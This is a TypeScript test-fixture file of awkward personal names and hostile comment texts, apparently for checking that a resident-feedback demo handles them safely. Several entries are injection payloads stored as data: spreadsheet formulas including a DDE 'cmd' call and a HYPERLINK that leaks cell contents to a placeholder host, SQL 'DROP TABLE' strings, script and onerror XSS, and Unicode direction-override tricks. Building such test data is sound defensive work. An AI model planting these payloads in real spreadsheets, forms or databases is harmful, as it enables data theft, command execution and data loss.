import type { PersonName } from "./names.ts";

/** Names that real people have and that careless software breaks. */
export const awkwardNames: readonly PersonName[] = [
  { first: "Siobhán", last: "O'Shaughnessy" },
  { first: "D’Andre", last: "St. Clair-Whitlock" },
  { first: "Nguyễn Thị", last: "Ánh Tuyết" },
  { first: "Ó", last: "E" },
  { first: "X", last: "Ng" },
  { first: "Łukasz", last: "Wiśniewski" },
  { first: "Björk", last: "Sigurðardóttir" },
  { first: "José María", last: "de la Fuente y Ortiz de Zárate" },
  { first: "Zoë", last: "van 't Hof" },
  { first: "Null", last: "Ifeanyi" },
  { first: "True", last: "Null" },
  { first: "Ayşe", last: "İnci-Çağlar" },
  { first: "Sean", last: "Mac an tSaoir" },
  { first: "Mary-Kate", last: "O'Neil, Jr." },
  { first: "ʻIolana", last: "Kealoha-Kaʻahumanu" },
  { first: "Христина", last: "Шевченко" },
  { first: "Φωτεινή", last: "Παπαδοπούλου" },
  { first: "مریم", last: "رضایی" },
  { first: "נועה", last: "בן־דוד" },
  { first: "雅文", last: "陳" },
  { first: "하은", last: "김" },
  { first: "mcKenzie", last: "DESHAWN" },
  { first: "Anne  Marie", last: "Double-Space" },
  {
    first: "Keihanaikukauakahihuliheekahaunaele",
    last: "Wolfeschlegelsteinhausenbergerdorff-Featherstonehaugh Cholmondeley",
  },
];

/** Names that attempt an injection. The demo contains them so that everyone can see that nothing happens. */
export const hostileNames: readonly PersonName[] = [
  { first: '=HYPERLINK("https://example.invalid","Click")', last: "Formula" },
  { first: "+1+1", last: "@SUM(A1:A9)" },
  { first: "-2+3", last: "Minus" },
  { first: "<b>Bold</b>", last: "<script>alert(1)</script>" },
  { first: '"Quote", "Comma"', last: "Semi;colon" },
  { first: "Robert'); DROP TABLE", last: "residents;--" },
  { first: "\u202Egnoal", last: "Override" },
  { first: "Zero\u200BWidth", last: "Joi\u200Dner" },
  { first: "🏠", last: "🔑🛠️" },
  { first: "{{first_name}}", last: "${last}" },
];

const longSentences = [
  "I have lived here for six years and I want to explain this properly, so please read all of it. ",
  "The first winter the radiator in the back room never got warm, and I was told a part was on order. ",
  "The part came in spring. By then the window beside it had started to leak, which nobody wanted to write down. ",
  "I kept a list: eleven visits, four different technicians, two of them excellent, and one bucket that I still own. ",
  "What I would like is simple: one person who knows the whole story, a date, and a call if the date does not hold. ",
  "My neighbors say the same, and they are patient people. ",
];

/** A comment of exactly 2,000 characters, the longest that the product accepts. */
export const longestComment: string = longSentences.join("").repeat(5).slice(0, 1999).replace(/\s$/, "s").concat(".");

/** Texts for comments that a spreadsheet, a browser or a careless query would execute, hide or choke on. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("https://example.invalid/?leak="&A1,"Rent statement")',
  "=cmd|' /C calc'!A0",
  "+1 (555) 010-0199 call me about the dryer",
  "-2 stars if I could",
  "@maintenance please look at the gate",
  "=1+1\twith a tab inside",
  '<script>alert("resident")</script>The hallway light is out.',
  '<img src=x onerror="alert(1)"> and the gate is broken',
  "</td></tr></table><h1>Free rent</h1>",
  "'; DROP TABLE answers; -- the pool is closed again",
  'She said: "It\'s on the list", and the list is "long"; still, nothing, happened',
  "Line one\nLine two\n\nLine four, after an empty one",
  "🔥🔥🔥 The AC is out again 😡🥵 third time this summer 🛠️👷🏽‍♀️🏳️‍🌈",
  "التدفئة لا تعمل منذ أسبوع",
  "המעלית תקועה שוב, ואף אחד לא עונה",
  "Everything is fine \u202Eton si ti\u202C, thank you",
  "Zero\u200Bwidth\u200Bspaces\u200Bbetween\uFEFFwords",
  "Z̸a̷l̶g̵o̴ ate the recycling bins",
  "100% off?? %s %d {0} ${rent} {{name}} \\n \\u0041 C:\\temp",
  "https://example.invalid/a/very/long/path/that/has/no/space/to/break/at/and/goes/on/".repeat(3),
  "W".repeat(300),
  "电梯又坏了，已经等了三个星期。",
  longestComment,
];
